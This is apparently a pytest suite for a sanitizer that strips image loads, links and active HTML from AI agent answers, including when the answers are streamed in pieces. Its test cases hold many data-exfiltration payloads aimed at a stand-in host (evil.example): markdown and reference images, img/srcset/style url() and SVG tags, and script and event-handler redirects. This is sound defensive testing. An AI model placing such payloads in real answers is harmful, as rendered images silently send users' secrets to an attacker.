"""Answers name nothing that an interface would load, and link to sources alone, however their pieces are cut."""

from __future__ import annotations

import random
import re
import time

import pytest
from markdown_it import MarkdownIt

from agents.answers.unlinked import NO_ADDRESSES, Addresses, Unlinking, addresses_of, unlinked
from agents.roles import NumberedPassage

SOURCE = "https://wiki.example/handbook"
PORTAL = "https://hr.example/portal?a=1"
PASSAGE = NumberedPassage(1, "p", "Travel", f"Trips are booked at {PORTAL}.", SOURCE)
KNOWN = addresses_of([PASSAGE])
EVIL = "https://evil.example/log?q=secret"

IMAGES = {
    "inline": f"![chart]({EVIL})",
    "without words": f"![]({EVIL})",
    "with a title": f'![chart](<{EVIL}> "of sales")',
    "of a source": f"![chart]({SOURCE})",
    "in a link": f"[![the chart]({EVIL})]({EVIL})",
    "with brackets in its words": f"![a [b] \\] c]({EVIL})",
    "over two lines": f"![a\nb]({EVIL})",
    "by reference": f"![chart][c]\n\n[c]: {EVIL}\n",
    "by a number": "![1]\n\n[1]: //evil.example/x.png 'title'\n",
    "by a number behind carriage returns": "![1]\r\r[1]: //evil.example/x.png\r",
    "by its own words": f"![c]\n\n> [c]:\n> {EVIL}\n",
    "HTML": f"<img src='{EVIL}' alt=\"a > b\">",
    "HTML over lines": f"<IMG\n  srcset = {EVIL}\n>",
    "picture": f"<picture><source srcset='{EVIL}'><img src='{EVIL}'></picture>",
    "style": f'<b style="background: u\\72l({EVIL})"></b>',
    "style sheet": f"<style>body {{ background: url({EVIL}) }}</style>",
    "poster": f"<video poster={EVIL}></video>",
    "SVG": f"<svg><image href='{EVIL}'/><rect fill='url({EVIL})'/></svg>",
    "frame": f"<iframe srcdoc='<img src={EVIL}>'></iframe>",
    "of parts": f"<im<img src=x>g src='{EVIL}'>",
    "of parts in Markdown": f"!![a](b/c)[x]({EVIL})",
    "of an address": "![a]https://(//evil.example/x.png)",
    "behind a tag": f"<img src=x> [1]: {EVIL}\n\nGreat![1]",
    "in a comment": f"<!-- <img src='{EVIL}'> -->",
    "never ended": f"<div {'x ' * 1500} style='background:url({EVIL})'>",
}


def rendered(text: str) -> str:
    """The text as an interface draws it that lets all HTML through."""
    return str(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def named_in(text: str) -> set[str]:
    """The addresses that a drawn text loads or links."""
    return set(re.findall(r"<[a-z][^>]*?[\"'=( ]((?:https?:)?//[^\"') >]*)", rendered(text), re.IGNORECASE))


def in_pieces(text: str, size: int) -> str:
    unlinking = Unlinking(KNOWN)
    said = [unlinking.feed(text[start : start + size]) for start in range(0, len(text), size)]
    for end in range(len(said)):
        assert not named_in("".join(said[:end])) - {SOURCE}
    return "".join([*said, unlinking.end()])


@pytest.mark.parametrize("image", IMAGES.values(), ids=IMAGES)
class TestImages:
    def test_none_is_loaded(self, image: str) -> None:
        left = unlinked(f"It rose {image} by 3 % [1].", KNOWN)
        assert "<img" not in rendered(left)
        assert not named_in(left)
        assert "https://" not in left
        assert left.startswith("It rose ")
        assert "by 3 % [1]." in left

    @pytest.mark.parametrize("size", [1, 3, 7])
    def test_none_is_loaded_from_any_part_of_a_stream(self, image: str, size: int) -> None:
        text = f"It rose {image} by 3 % [1]."
        assert in_pieces(text, size) == unlinked(text, KNOWN)


@pytest.mark.parametrize(
    "tag",
    [
        '<style ">* { background: url(//evil.example) }</style ">',
        "<script \">location='//evil.example'</script \">",
        "<details open ontoggle=\"location='//evil.example'\">",
        "<b attributionsrc='//evil.example'>",
    ],
)
def test_no_tag_is_left_that_acts(tag: str) -> None:
    assert not re.search("<[a-z]", unlinked(tag))


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"See [the portal]({EVIL}) [1].", "See the portal [1]."),
        (f"See [the portal]({EVIL} 'title') [1].", "See the portal [1]."),
        ("See [the guide](guide.md) [1].", "See the guide [1]."),
        (f"See <a href='{EVIL}'>the portal</a> [1].", "See the portal [1]."),
        (f"See <{EVIL}> and {EVIL} [1].", "See evil.example/log?q=secret and evil.example/log?q=secret [1]."),
        (f"It is so [1]({EVIL}), [1].", "It is so [1], [1]."),
        ("See www.evil.example [1].", "See evil.example [1]."),
        ("See <someone@example.com> [1].", "See someone@example.com [1]."),
        ("Term\n: [1]: //evil.example\n~ [2]: //evil.example", "Term\n: \n~ "),
    ],
)
def test_a_link_is_its_text(text: str, left: str) -> None:
    assert unlinked(text, KNOWN) == left


@pytest.mark.parametrize(
    "text",
    [
        f"See [the handbook]({SOURCE}) [1].",
        f"Trips are booked at {PORTAL}. [1] ({PORTAL}), **{PORTAL}**, [{PORTAL}]",
        "Great [1][2]. [1-3] says so, [2024] too [unsupported].",
        "1. `a[0]` <br> H<sub>2</sub>O, Map<String, List<int>> and <your-name> if 1 < 2 > 0\n\n- [x] done",
        '<property name="url" value="jdbc"/> <td align="left">',
        "x" * 3_000 + " [" + "y " * 1_500,
        "",
    ],
)
def test_what_is_no_link_or_of_a_source_stays_as_it_is(text: str) -> None:
    assert unlinked(text, KNOWN) == text
    assert in_pieces(text, 5) == text


def test_words_come_at_once_and_what_may_become_an_image_when_it_is_settled() -> None:
    unlinking = Unlinking(NO_ADDRESSES)
    pieces = ("It", " rose", " !", "[chart](https", "://evil.example/?q=a b", ") in", " 1933", " w", "ith 3")
    assert [unlinking.feed(piece) for piece in pieces] == ["It", " rose", " ", "", "", " in", " 1933", " ", "with 3"]
    assert not unlinking.end()


def test_whatever_is_put_together_nothing_of_it_is_loaded() -> None:
    signs = [
        *("!", "[", "]", "(", ")", "<", ">", " ", "\n", "\n\n", "a", "1", "//e", "img src=", ":", "\\", '"', "=", "`"),
        *(EVIL, SOURCE, "<img src=x>", "![a](u/b)", "[1]", "www.", "style", "- "),
    ]
    at_random = random.Random(0)
    for _ in range(3_000):
        text = "".join(at_random.choices(signs, k=at_random.randint(1, 25)))
        left = unlinked(text, KNOWN)
        assert "<img" not in rendered(left), text
        assert not re.findall(r'(?:href|src)="(?!https://wiki)', rendered(left)), text
        assert in_pieces(text, 3) == left, text


@pytest.mark.parametrize("part", ["[", "[a](x", "![a](b/", "[x ", "<a ", "<!--", "http://", "](", "<a b='", "[[a]"])
def test_a_text_of_beginnings_takes_no_time(part: str) -> None:
    start = time.perf_counter()
    unlinked(part * (20_000 // len(part)), Addresses())
    assert time.perf_counter() - start < 5
